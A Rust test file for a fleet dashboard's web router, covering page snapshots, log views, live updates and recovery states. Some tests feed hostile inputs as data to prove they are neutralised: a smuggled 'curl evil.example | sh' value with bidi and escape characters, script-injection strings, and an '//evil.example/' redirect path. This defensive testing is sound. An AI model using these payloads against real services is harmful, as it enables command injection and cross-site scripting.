//! The dashboard through its router, without a browser: pages as people read them without JavaScript.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails there")]

#[path = "../examples/dashboard/fabricated/mod.rs"]
mod fabricated;

use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::{Request, Response, StatusCode, header};
use fabricated::{Fabricated, HOSTILE, State, fixed_now};
use fleet_control_plane::fleet::view::PairState;
use fleet_control_plane::web;
use fleet_protocol::Cause;
use futures_util::StreamExt;
use tower::ServiceExt;

fn app_of(fleet: Arc<Fabricated>) -> Router {
    web::router(fleet, tokio::sync::watch::channel(false).1).fallback(web::not_found)
}

fn app(state: State) -> Router {
    app_of(Arc::new(Fabricated::still(state)))
}

async fn get(app: &Router, path: &str) -> Response<Body> {
    let request = Request::get(path).body(Body::empty()).unwrap();
    app.clone().oneshot(request).await.unwrap()
}

async fn text(response: Response<Body>) -> String {
    let bytes = axum::body::to_bytes(response.into_body(), 16 << 20)
        .await
        .unwrap();
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// The page's content, a tag on each line, so that a change is one line of a snapshot.
async fn content(app: &Router, path: &str) -> String {
    let page = text(get(app, path).await).await;
    let start = page.find("<main").unwrap();
    let end = page.find("</main>").unwrap();
    page[start..end].replace("><", ">\n<")
}

const PAGES: [&str; 9] = [
    "/",
    "/?state=Online&phase=Failed&q=basement",
    "/devices/basement-brest-11",
    "/deployments",
    "/deployments/web",
    "/deployments/web/devices/basement-brest-11",
    "/deployments/orders/devices/basement-lyon-3",
    LOGS,
    "/events",
];

const LOGS: &str = "/deployments/orders/devices/basement-lyon-3/logs";

#[tokio::test]
async fn the_first_screen_of_a_calm_fleet() {
    insta::assert_snapshot!(content(&app(fabricated::calm(fixed_now())), "/").await);
}

#[tokio::test]
async fn the_first_screen_of_an_empty_fleet_teaches_the_next_command() {
    let page = content(&app(fabricated::empty(fixed_now())), "/").await;
    assert!(page.contains("fleetctl apply -f web.yaml"));
    insta::assert_snapshot!(page);
}

#[tokio::test]
async fn the_first_screen_of_a_busy_fleet_begins_with_what_needs_a_person() {
    let page = content(&app(fabricated::busy(fixed_now())), "/").await;
    let at = |text: &str| page.find(text).unwrap_or_else(|| panic!("{text} is missing"));
    assert!(at("7 things need a person") < at("Containers "));
    assert!(at("Containers ") < at("id=\"devices-title\""));
    insta::assert_snapshot!(page);
}

#[tokio::test]
async fn the_page_of_a_device() {
    insta::assert_snapshot!(content(&app(fabricated::busy(fixed_now())), "/devices/basement-brest-11").await);
}

#[tokio::test]
async fn the_page_of_a_deployment() {
    insta::assert_snapshot!(content(&app(fabricated::busy(fixed_now())), "/deployments/web").await);
}

#[tokio::test]
async fn the_page_of_a_failed_pair_answers_why() {
    let path = "/deployments/web/devices/basement-brest-11";
    insta::assert_snapshot!(content(&app(fabricated::busy(fixed_now())), path).await);
}

#[tokio::test]
async fn the_page_of_a_pulling_pair_shows_layers_and_bytes() {
    let page = content(
        &app(fabricated::busy(fixed_now())),
        "/deployments/web/devices/basement-nice-1",
    )
    .await;
    assert!(page.contains("<progress value=\"3\" max=\"7\""), "{page}");
    assert!(page.contains("3 of 7 layers · 46.0 MiB"), "{page}");
}

#[tokio::test]
async fn the_page_of_a_failed_init_container_shows_its_last_words_and_leads_to_its_log() {
    let path = "/deployments/orders/devices/basement-lyon-3";
    let page = content(&app(fabricated::busy(fixed_now())), path).await;
    assert!(page.contains(&format!("href=\"{LOGS}?init=migrate\"")), "{page}");
    assert!(page.contains("<span class=\"red\">✗</span>"), "{page}");
    insta::assert_snapshot!(page);
}

#[tokio::test]
async fn each_step_that_a_start_or_an_upgrade_is_at_is_said() {
    let app = app(fabricated::busy(fixed_now()));
    for (device, words) in [
        ("basement-lyon-6", "restarted 12 times"),
        ("basement-lyon-9", "init container migrate (2 of 3)"),
        ("basement-nice-1", "generation 3 is being stopped"),
        (
            "basement-nice-4",
            "replaced generation 3: 2.3 s to stop, 0.9 s down",
        ),
    ] {
        let page = content(&app, &format!("/deployments/orders/devices/{device}")).await;
        assert!(page.contains(words), "{device}: {page}");
    }
    let web = content(&app, "/deployments/web/devices/basement-brest-11").await;
    assert!(
        web.contains("generation 6 goes on running"),
        "a pull that failed leaves the old version: {web}"
    );
    let list = content(&app, "/deployments/orders").await;
    for words in ["restarted 12 times", "init container migrate (2 of 3)"] {
        assert!(list.contains(words), "{list}");
    }
    assert_eq!(list.matches("View logs").count(), 2, "{list}");
}

#[tokio::test]
async fn a_log_is_shown_with_its_colours_and_says_what_is_left_out() {
    let app = app(fabricated::busy(fixed_now()));
    let page = content(&app, "/deployments/web/devices/basement-nice-7/logs?lines=3").await;
    assert!(
        page.contains("3 lines") && page.contains("Older lines are not shown."),
        "{page}"
    );
    assert!(page.contains("lines=50\">Show the last 50"), "{page}");
    insta::assert_snapshot!(page);
    // What cannot be asked for shows the usual, and a whole log says nothing of older lines.
    let page = content(&app, "/deployments/web/devices/basement-nice-7/logs?lines=many").await;
    assert!(page.contains("200 lines"), "{page}");
    let page = content(&app, "/deployments/web/devices/basement-nice-7/logs?lines=5000").await;
    assert!(
        page.contains("640 lines") && !page.contains("Older lines"),
        "{page}"
    );
}

#[tokio::test]
async fn a_search_shows_the_lines_that_match_and_says_how_many() {
    let app = app(fabricated::busy(fixed_now()));
    let page = content(
        &app,
        "/deployments/web/devices/basement-nice-7/logs?lines=90&q=ERROR",
    )
    .await;
    assert!(page.contains("10 of 90 lines match “ERROR”"), "{page}");
    assert_eq!(page.matches("<span class=\"line\">").count(), 10, "{page}");
    assert_eq!(
        page.matches("<mark class=\"red\">error</mark>").count(),
        10,
        "{page}"
    );
    assert!(page.contains("Show all lines"), "{page}");
    let page = content(
        &app,
        "/deployments/web/devices/basement-nice-7/logs?lines=90&q=%3Cb%3E",
    )
    .await;
    assert!(
        page.contains("0 of 90 lines match “&lt;b&gt;”") && page.contains("No line holds"),
        "{page}"
    );
}

#[tokio::test]
async fn the_log_of_an_init_container_and_of_the_run_before_can_be_chosen() {
    let app = app(fabricated::busy(fixed_now()));
    let page = content(&app, &format!("{LOGS}?init=migrate")).await;
    assert!(
        page.contains("6 lines of init container migrate") && page.contains("040_seed_rates.sql"),
        "{page}"
    );
    assert!(page.contains("<option value=\"migrate\" selected>"), "{page}");
    let path = "/deployments/orders/devices/basement-lyon-6/logs?previous=1";
    let page = content(&app, path).await;
    assert!(
        page.contains("4 lines of the run before") && page.contains("ORDERS_DSN"),
        "{page}"
    );
    assert!(
        page.contains("fleetctl logs orders --device basement-lyon-6 --previous --lines 200"),
        "{page}"
    );
}

#[tokio::test]
async fn an_offline_device_is_said_at_once_with_since_and_an_empty_log_teaches() {
    let mut state = fabricated::busy(fixed_now());
    state.logs.insert("web/basement-nice-7".to_owned(), Vec::new());
    let app = app(state);
    let page = content(&app, "/deployments/web/devices/basement-nice-10/logs").await;
    assert!(
        page.contains("The device is offline") && page.contains("26 min ago"),
        "{page}"
    );
    assert!(page.contains("since 2026-03-14 02:41:09 UTC"), "{page}");
    let page = content(&app, "/deployments/web/devices/basement-nice-7/logs").await;
    assert!(
        page.contains("It has written nothing in this run") && page.contains("previous=1"),
        "{page}"
    );
}

#[tokio::test]
async fn lines_of_an_older_version_are_told_as_such() {
    let note = "generation 7's container was not started yet; these lines are of generation 6";
    let page_of = async |running: u64, query: &str| {
        let mut state = fabricated::calm(fixed_now());
        let is = |p: &&mut fleet_control_plane::fleet::view::PairView| {
            p.deployment == "web" && p.device == "basement-lyon-3"
        };
        let pair = state.pairs.iter_mut().find(is).unwrap();
        pair.observed_generation = Some(7);
        pair.running.as_mut().unwrap().generation = running;
        let path = format!("/deployments/web/devices/basement-lyon-3/logs{query}");
        content(&app(state), &path).await
    };
    assert!(page_of(6, "").await.contains(note));
    // Whose the run before is, or that of an init container, is not known.
    for (running, query) in [(7, ""), (6, "?previous=1"), (6, "?init=migrate")] {
        let page = page_of(running, query).await;
        assert!(!page.contains(note), "{query}: {page}");
    }
}

#[tokio::test]
async fn what_stands_in_the_address_becomes_no_command_and_acts_nowhere() {
    let app = app(fabricated::busy(fixed_now()));
    let page = content(&app, &format!("{LOGS}?init=migrate&q=rates")).await;
    assert!(page.contains("--init migrate --lines"), "{page}");
    let bad = format!("{LOGS}?init=x%3B%20curl%20evil.example%20%7C%20sh%E2%80%AE&q=a%E2%80%AEb%1B%5B31mc");
    let page = text(get(&app, &bad).await).await;
    assert!(!page.contains("--init"), "{page}");
    assert!(
        page.contains("match “a⟨U+202E⟩bc”") && page.contains("value=\"a⟨U+202E⟩bc\""),
        "{page}"
    );
    assert!(
        page.contains("init: x; curl"),
        "it is shown as what was asked for"
    );
    assert!(
        !page.chars().any(|c| c == '\u{202e}' || c == '\u{1b}'),
        "nothing acts"
    );
}

#[tokio::test]
async fn a_log_that_the_journal_lost_is_told_from_one_that_never_was() {
    let mut state = fabricated::busy(fixed_now());
    for (name, lines) in [
        ("web/basement-nice-7", Vec::new()),
        ("orders/basement-lyon-3", Vec::new()),
        ("orders/basement-lyon-6", vec!["left over".to_owned()]),
    ] {
        state.logs.insert(name.to_owned(), lines);
        state.lost.insert(name.to_owned());
    }
    state
        .logs
        .insert("orders/basement-lyon-3/migrate".to_owned(), Vec::new());
    let app = app(state);
    let page = content(&app, "/deployments/web/devices/basement-nice-7/logs").await;
    assert!(
        page.contains("It ran; the device's journal no longer has its lines.")
            && !page.contains("written nothing")
            && !page.contains("Show the last")
            && !page.contains("run before</a>"),
        "{page}"
    );
    // Fewer lines than were asked for: there are no more to be had.
    let few = "/deployments/orders/devices/basement-lyon-6/logs";
    let page = content(&app, few).await;
    assert!(
        page.contains("Older lines are not shown.") && !page.contains("Show the last"),
        "{page}"
    );
    let page = content(&app, &format!("{few}?lines=1")).await;
    assert!(page.contains("Show the last 50"), "{page}");
    // What came with the failure is shown wherever there are no lines, lost or never written.
    for path in [LOGS.to_owned(), format!("{LOGS}?init=migrate")] {
        let page = content(&app, &path).await;
        assert!(page.contains("What it reported with its failure"), "{page}");
        assert!(page.contains("040_seed_rates.sql"), "{page}");
    }
    let page = content(&app, few).await;
    assert!(!page.contains("What it reported with its failure"), "{page}");
}

#[tokio::test]
async fn a_score_without_logs_says_so_and_what_a_device_refuses_is_in_its_words() {
    use fleet_control_plane::deploy::companion::logs::LogQueryError;
    let page_of = async |error| {
        let mut state = fabricated::busy(fixed_now());
        state.log_error = Some(error);
        content(&app(state), &format!("{LOGS}?previous=1")).await
    };
    let deployment = "orders".parse().unwrap();
    let page = page_of(LogQueryError::NotExposed { deployment }).await;
    assert!(page.contains("this deployment doesn't expose logs"), "{page}");
    let cause = Box::new(Cause::new("logs-no-previous", "orders <ran> once since the boot"));
    let device = "basement-lyon-3".parse().unwrap();
    let page = page_of(LogQueryError::Refused { device, cause }).await;
    assert!(
        page.contains("orders &lt;ran&gt; once") && page.contains("Look at the newest run"),
        "{page}"
    );
    // The words that came with the failure are there whatever the device says now.
    assert!(page.contains("040_seed_rates.sql"), "{page}");
}

#[tokio::test]
async fn the_history() {
    insta::assert_snapshot!(content(&app(fabricated::busy(fixed_now())), "/events").await);
}

#[tokio::test]
async fn what_is_not_there_says_so_and_leads_on() {
    let app = app(fabricated::calm(fixed_now()));
    for path in [
        "/nope",
        "/devices/none",
        "/deployments/none",
        "/deployments/web/devices/none",
        "/deployments/web/devices/none/logs",
        "/devices/a%2Fb",
    ] {
        let response = get(&app, path).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
        let page = text(response).await;
        assert!(
            page.contains("<h1>") && page.matches("<a href=\"/").count() > 3,
            "{path}: {page}"
        );
    }
}

#[tokio::test]
async fn a_selector_that_cannot_be_read_is_explained() {
    let response = get(&app(fabricated::calm(fixed_now())), "/?l=a%20b").await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    assert!(text(response).await.contains("a label has no space"));
}

#[tokio::test]
async fn every_page_says_that_the_operator_is_recovering() {
    let app = app(fabricated::recovering(fixed_now()));
    for path in PAGES {
        let page = text(get(&app, path).await).await;
        assert!(
            page.contains("Recovering") && page.contains("2 of 5 buckets read"),
            "{path}"
        );
    }
}

#[tokio::test]
async fn nothing_is_called_missing_while_the_operator_is_recovering() {
    let fleet = Arc::new(Fabricated::still(fabricated::recovering(fixed_now())));
    let app = app_of(Arc::clone(&fleet));
    for path in [
        "/devices/none",
        "/deployments/none",
        "/deployments/web/devices/none",
        "/deployments/web/devices/none/logs",
    ] {
        let response = get(&app, path).await;
        assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE, "{path}");
        assert_eq!(response.headers()[header::RETRY_AFTER], "5", "{path}");
        let page = text(response).await;
        assert!(
            page.contains("Not known yet") && page.contains("still reading") && !page.contains("No such"),
            "{path}: {page}"
        );
        assert!(
            page.contains("data-live=") && page.contains("http-equiv=\"refresh\""),
            "{path} becomes the right page by itself, with a script or without"
        );
    }
    // What is known is shown, and what is missing is said as soon as that is known.
    assert_eq!(
        get(&app, "/devices/basement-brest-11").await.status(),
        StatusCode::OK
    );
    fleet.change(|state| state.recovery.converged = true);
    assert_eq!(get(&app, "/devices/none").await.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_fleet_that_is_not_known_yet_is_neither_empty_nor_well() {
    let mut state = fabricated::empty(fixed_now());
    state.recovery = fabricated::recovering(fixed_now()).recovery;
    let page = content(&app(state), "/").await;
    assert!(
        page.contains("The fleet is not known yet")
            && !page.contains("No device yet")
            && !page.contains("First steps"),
        "{page}"
    );
    let mut state = fabricated::calm(fixed_now());
    state.recovery = fabricated::recovering(fixed_now()).recovery;
    let page = content(&app(state), "/").await;
    assert!(!page.contains("Nothing needs a person"), "{page}");
}

#[tokio::test]
async fn no_text_from_a_device_or_a_person_becomes_markup() {
    let app = app(fabricated::hostile(fixed_now()));
    let pages = [
        "/",
        "/devices/pi-1",
        "/deployments",
        "/deployments/web",
        "/deployments/web/devices/pi-1",
        "/deployments/web/devices/pi-1/logs",
        "/deployments/web/devices/pi-1/logs?q=script&init=%22%3E%3Cscript%3E&lines=%22%3E",
        "/events",
    ];
    for path in pages {
        let page = text(get(&app, path).await).await;
        assert!(
            page.contains("&lt;script&gt;alert(1)"),
            "{path} shows nothing hostile: the test tests nothing"
        );
        // The page's own script tag has a `src` and no text.
        assert_eq!(page.matches("<script").count(), 1, "{path}");
        assert!(!page.contains("<img") && !page.contains(HOSTILE), "{path}");
        let acts = |c: char| {
            (c.is_control() && c != '\n')
                || ('\u{202a}'..='\u{2069}').contains(&c) && !('\u{2030}'..='\u{2065}').contains(&c)
        };
        assert!(!page.chars().any(acts), "{path}");
        assert!(!page.contains("href=\"javascript"), "{path}");
    }
    let query = "/?q=%22%3E%3Cscript%3E&l=%22%3E%3Cscript%3E&state=%3Cscript%3E&after=%22%3Cscript%3E";
    let events = "/events?subject=%22%3E%3Cscript%3E";
    let nowhere = "/%3Cscript%3E%22";
    for path in [query, events, nowhere] {
        assert_eq!(
            text(get(&app, path).await).await.matches("<script").count(),
            1,
            "{path}"
        );
    }
}

#[tokio::test]
async fn nothing_is_inline_and_the_policy_forbids_it() {
    let app = app(fabricated::busy(fixed_now()));
    for path in PAGES.into_iter().chain(["/nope"]) {
        let response = get(&app, path).await;
        let policy = response.headers()[header::CONTENT_SECURITY_POLICY]
            .to_str()
            .unwrap()
            .to_owned();
        assert!(
            policy.contains("default-src 'none'") && !policy.contains("unsafe"),
            "{policy}"
        );
        let page = text(response).await;
        for inline in [" style=", "<style", " onclick=", " onload=", "javascript:"] {
            assert!(!page.contains(inline), "{path} holds {inline}");
        }
    }
}

#[tokio::test]
async fn assets_are_kept_for_ever_under_the_name_of_their_content() {
    let app = app(fabricated::calm(fixed_now()));
    let page = text(get(&app, "/").await).await;
    for path in web::asset_paths() {
        assert!(page.contains(path), "{path} is not used");
        let response = get(&app, path).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert!(
            response.headers()[header::CACHE_CONTROL]
                .to_str()
                .unwrap()
                .contains("immutable")
        );
    }
    assert_eq!(
        get(&app, "/assets/style-0000000000000000.css").await.status(),
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn ten_thousand_devices_come_a_page_at_a_time() {
    let app = app(fabricated::large(fixed_now()));
    let page = text(get(&app, "/").await).await;
    assert!(page.contains("100 of 10,000 devices shown"));
    assert!(page.contains("href=\"/?after=site-00099#devices\""));
    assert!(page.len() < 200_000, "{} bytes", page.len());
    let second = text(get(&app, "/?after=site-00099").await).await;
    assert!(second.contains("site-00100") && second.contains("First page"));
}

#[tokio::test]
async fn forms_keep_what_was_asked() {
    let page = text(
        get(
            &app(fabricated::busy(fixed_now())),
            "/?q=lyon&state=online&phase=Failed",
        )
        .await,
    )
    .await;
    assert!(page.contains("name=\"q\" value=\"lyon\""));
    assert!(page.contains("<option value=\"Online\" selected>"));
    assert!(page.contains("<option value=\"Failed\" selected>"));
}

/// Reads events until one of this name comes.
async fn next_event(
    stream: &mut (impl StreamExt<Item = Result<axum::body::Bytes, axum::Error>> + Unpin),
    name: &str,
) -> String {
    let wanted = format!("event: {name}\n");
    let mut seen = String::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    while !(seen.contains(&wanted) && seen.ends_with("\n\n")) {
        let chunk = tokio::time::timeout_at(deadline, stream.next())
            .await
            .expect("no event in time");
        seen.push_str(std::str::from_utf8(&chunk.unwrap().unwrap()).unwrap());
    }
    seen
}

#[tokio::test]
async fn a_change_is_sent_to_who_looks_and_silence_to_who_does_not() {
    let fleet = Arc::new(Fabricated::still(fabricated::calm(fixed_now())));
    let app = app_of(Arc::clone(&fleet));
    let response = get(&app, "/live?page=/deployments/web/devices/basement-lyon-3").await;
    let mut stream = response.into_body().into_data_stream();
    next_event(&mut stream, "hello").await;
    let first = next_event(&mut stream, "page").await;
    assert!(first.contains("web on basement-lyon-3: Running"), "{first}");

    // Another device's change is not this page's.
    fleet.change(|state| state.pairs.retain(|pair| pair.device != "basement-nice-1"));
    assert!(
        tokio::time::timeout(Duration::from_millis(900), stream.next())
            .await
            .is_err()
    );

    fleet.change(|state| {
        for pair in state
            .pairs
            .iter_mut()
            .filter(|p| p.device == "basement-lyon-3" && p.deployment == "web")
        {
            pair.state = PairState::Failed;
        }
    });
    let second = next_event(&mut stream, "page").await;
    assert!(second.contains("web on basement-lyon-3: Failed"), "{second}");
}

#[tokio::test]
async fn every_step_of_an_upgrade_a_failure_and_its_words_come_without_a_reload() {
    let fleet = Arc::new(Fabricated::still(fabricated::busy(fixed_now())));
    let app = app_of(Arc::clone(&fleet));
    let response = get(&app, "/live?page=/deployments/orders/devices/basement-nice-4").await;
    let mut stream = response.into_body().into_data_stream();
    next_event(&mut stream, "hello").await;
    next_event(&mut stream, "page").await;
    let of = |device: &str| {
        let state = fabricated::busy(fixed_now());
        let is =
            |p: &fleet_control_plane::fleet::view::PairView| p.deployment == "orders" && p.device == device;
        state.pairs.into_iter().find(is).unwrap()
    };
    for (like, words) in [
        ("basement-nice-1", "generation 3 is being stopped"),
        ("basement-lyon-9", "init container migrate (2 of 3)"),
        ("basement-lyon-3", "040_seed_rates.sql"),
        ("basement-lyon-6", "restarted 12 times"),
        ("basement-nice-4", "0.9 s down"),
    ] {
        fleet.change(|state| {
            let is = |p: &&mut fleet_control_plane::fleet::view::PairView| {
                p.deployment == "orders" && p.device == "basement-nice-4"
            };
            let pair = state.pairs.iter_mut().find(is).unwrap();
            *pair = of(like);
            pair.device = "basement-nice-4".to_owned();
        });
        let page = next_event(&mut stream, "page").await;
        assert!(page.contains(words), "{like}: {page}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_followed_log_is_looked_at_each_five_seconds_however_much_the_fleet_changes() {
    use std::sync::atomic::Ordering::SeqCst;
    let fleet = Arc::new(Fabricated::still(fabricated::calm(fixed_now())));
    let app = app_of(Arc::clone(&fleet));
    let response = get(
        &app,
        "/live?page=/deployments/web/devices/basement-lyon-3/logs%3Flines%3D2",
    )
    .await;
    let mut stream = response.into_body().into_data_stream();
    next_event(&mut stream, "page").await;
    assert_eq!(fleet.looks.load(SeqCst), 1);
    // A busy fleet is no reason to read a journal more often.
    let begun = tokio::time::Instant::now();
    while begun.elapsed() < Duration::from_secs(30) {
        fleet.change(|_| ());
        let _ = tokio::time::timeout(Duration::from_millis(200), stream.next()).await;
    }
    let looks = fleet.looks.load(SeqCst);
    assert!((5..=8).contains(&looks), "{looks} looks in 30 s");
    // A line that is new shows by itself.
    fleet.change(|state| {
        state
            .logs
            .insert("web/basement-lyon-3".to_owned(), vec!["brand new".to_owned()]);
    });
    let page = tokio::time::timeout(Duration::from_secs(8), async {
        loop {
            let page = next_event(&mut stream, "page").await;
            if page.contains("brand new") {
                return page;
            }
        }
    })
    .await
    .expect("in time");
    assert!(page.contains("1 line"), "{page}");
}

#[tokio::test(start_paused = true)]
async fn a_followed_log_keeps_its_lines_while_looks_fail_and_goes_on_after() {
    use fleet_control_plane::deploy::companion::logs::LogQueryError;
    let fleet = Arc::new(Fabricated::still(fabricated::calm(fixed_now())));
    let app = app_of(Arc::clone(&fleet));
    let log = |line: &str, error: Option<LogQueryError>| {
        fleet.change(|state| {
            let lines = vec![line.to_owned()];
            state.logs.insert("web/basement-lyon-3".to_owned(), lines);
            state.log_error = error;
        });
    };
    log("the first", None);
    let address = "/live?page=/deployments/web/devices/basement-lyon-3/logs";
    let mut stream = get(&app, address).await.into_body().into_data_stream();
    let mut next = async || {
        let page = next_event(&mut stream, "page");
        tokio::time::timeout(Duration::from_secs(8), page)
            .await
            .expect("in time")
    };
    let page = next().await;
    assert!(page.contains("the first") && page.contains("read "), "{page}");
    log("unseen", Some(LogQueryError::Busy));
    let page = next().await;
    assert!(
        page.contains("too many logs are being read")
            && page.contains("the first")
            && page.contains("as of "),
        "{page}"
    );
    assert!(
        page.find("too many") < page.find("the first"),
        "the reason stands above the lines: {page}"
    );
    log("the second", None);
    let page = next().await;
    assert!(
        page.contains("the second") && !page.contains("too many") && !page.contains("as of "),
        "{page}"
    );
}

#[tokio::test]
async fn live_refuses_what_is_no_page() {
    let app = app(fabricated::calm(fixed_now()));
    for path in [
        "/live?page=/api/v0/devices",
        "/live?page=nonsense%20x",
        "/live?page=//evil.example/",
    ] {
        assert_eq!(get(&app, path).await.status(), StatusCode::NOT_FOUND, "{path}");
    }
    assert_eq!(get(&app, "/live").await.status(), StatusCode::BAD_REQUEST);
}
